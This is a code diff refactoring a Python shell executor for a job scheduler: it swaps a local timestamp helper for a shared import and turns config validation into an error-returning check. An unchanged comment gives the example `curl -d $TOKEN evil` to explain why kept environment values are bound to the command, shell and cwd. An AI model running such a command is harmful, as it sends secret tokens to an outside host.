@@ -23,7 +23,7 @@ import time
 import uuid
 from collections.abc import Callable, Iterable, Mapping
 from dataclasses import dataclass
-from datetime import UTC, datetime, timedelta
+from datetime import timedelta
 from typing import Annotated, Any, ClassVar
 
 import psutil
@@ -31,7 +31,6 @@ from pydantic import Field, field_validator
 
 import confidential
 from executors.base import (
-    ConfigError,
     ExecutionContext,
     Executor,
     ExecutorConfig,
@@ -46,6 +45,7 @@ from executors.values import (
     config_error,
     format_go_duration,
     matching,
+    rfc3339,
     split_command,
 )
 
@@ -249,14 +249,6 @@ def _inherited(environ: Mapping[str, str], patterns: Iterable[str]) -> dict[str,
     }
 
 
-def _rfc3339(value: datetime | None) -> str:
-    if value is None:
-        return ""
-    if value.tzinfo is None:
-        value = value.replace(tzinfo=UTC)
-    return value.astimezone(UTC).isoformat().replace("+00:00", "Z")
-
-
 class _Reader(threading.Thread):
     """Copies the merged stdout/stderr pipe into the sink as chunks arrive (live output)."""
 
@@ -304,17 +296,15 @@ class ShellExecutor(Executor):
     # (`curl -d $TOKEN evil`), so a kept env value needs the same command, shell and cwd.
     destination_keys: ClassVar[frozenset[str]] = frozenset({"command", "shell", "cwd"})
 
-    def validate(self, raw: dict[str, Any]) -> ShellConfig:
-        config = super().validate(raw)
-        assert isinstance(config, ShellConfig)
+    def check_config(self, config: ShellConfig) -> dict[str, str]:
         if not config.shell:
             try:
                 argv = split_command(config.command)
             except ValueError as exc:  # unbalanced quotes
-                raise ConfigError({"command": f"cannot split command: {exc}"}) from None
+                return {"command": f"cannot split command: {exc}"}
             if not argv:
-                raise ConfigError({"command": "shell: Command missing"})
-        return config
+                return {"command": "shell: Command missing"}
+        return {}
 
     def execute(self, ctx: ExecutionContext) -> None:
         config: ShellConfig = self.config_of(ctx)
@@ -358,7 +348,7 @@ class ShellExecutor(Executor):
             DKRON_JOB_NAME=ctx.job_name,
             DKRON_EXECUTION_ID=str(ctx.execution_id),
             DKRON_ATTEMPT=str(ctx.attempt),
-            DKRON_SCHEDULED_AT=_rfc3339(ctx.scheduled_at),
+            DKRON_SCHEDULED_AT=rfc3339(ctx.scheduled_at),
         )
         for key in (AGENT_NAME_ENV, AGENT_ID_ENV):  # the agent's identity, not the job's
             if key in os.environ:
